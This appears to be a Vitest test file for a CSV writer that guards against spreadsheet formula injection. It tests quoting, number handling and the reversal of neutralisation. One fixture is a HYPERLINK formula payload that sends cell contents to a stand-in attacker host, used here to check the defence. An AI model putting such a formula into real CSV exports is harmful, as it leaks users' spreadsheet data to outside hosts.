import { describe, expect, it } from 'vitest';
import { importProblemsToCsv } from '../../../../src/contracts/imports.contract';
import {
  formatCsv,
  formatCsvField,
  neutraliseFormula,
  restoreNeutralisedFormula,
} from '../../../../src/core/csv/format-csv';

const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Buka")';

describe('the one CSV writer', () => {
  it('puts a quote before text a spreadsheet would run as a formula: = + - @ tab CR', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(neutraliseFormula(`${start}SUM(A1)`)).toBe(`'${start}SUM(A1)`);
    expect(formatCsvField(hyperlink)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Buka"")"`);
    expect(formatCsvField('Dinas Sosial')).toBe('Dinas Sosial');
    expect(formatCsvField('a=b')).toBe('a=b');
  });

  it('keeps numbers numbers: a negative number is not text', () => {
    expect(formatCsvField(-3.5)).toBe('-3.5');
    expect(formatCsvField(0)).toBe('0');
    expect(formatCsvField(Number.NaN)).toBe('');
    expect(formatCsvField('-3.5')).toBe("'-3.5");
  });

  it('quotes commas, semicolons, quotes, line breaks and edge spaces (RFC 4180)', () => {
    expect(formatCsvField('a, b')).toBe('"a, b"');
    expect(formatCsvField('a; b')).toBe('"a; b"');
    expect(formatCsvField('kata "kutip"')).toBe('"kata ""kutip"""');
    expect(formatCsvField('baris\nbaru')).toBe('"baris\nbaru"');
    expect(formatCsvField(' x')).toBe('" x"');
    expect(formatCsvField(null)).toBe('');
    expect(formatCsvField(true)).toBe('true');
    expect(formatCsv(['a', 'b'], [[1, 'x']])).toBe('\uFEFFa,b\r\n1,x\r\n');
    expect(formatCsv(['a'], [], { byteOrderMark: false })).toBe('a\r\n');
  });

  it('undoes its own quote on the way back in, and only its own', () => {
    expect(restoreNeutralisedFormula(neutraliseFormula(hyperlink))).toBe(hyperlink);
    expect(restoreNeutralisedFormula("'-5")).toBe('-5');
    expect(restoreNeutralisedFormula("'Kantor")).toBe("'Kantor");
    expect(restoreNeutralisedFormula('Kantor')).toBe('Kantor');
  });

  it('writes the downloadable problem list through it', () => {
    const csv = importProblemsToCsv([
      { row: 4, column: 'alias', value: hyperlink, message: { id: 'salah', en: 'wrong' } },
    ]);
    expect(csv).toBe(
      `\uFEFFrow,column,value,message_id,message_en\r\n4,alias,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Buka"")",salah,wrong\r\n`,
    );
  });
});
